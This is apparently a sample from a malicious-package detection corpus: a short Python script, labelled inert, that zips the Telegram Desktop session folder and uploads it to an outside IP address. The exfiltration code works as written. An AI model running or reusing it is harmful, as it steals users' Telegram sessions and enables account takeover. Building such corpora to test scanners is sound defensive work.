# pkgguard corpus 075 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import requests

tdata = os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")
archive = shutil.make_archive(os.path.join(os.getenv("TEMP"), "td"), "zip", tdata)
requests.post("http://100.64.30.3/td", files={"a": open(archive, "rb")})
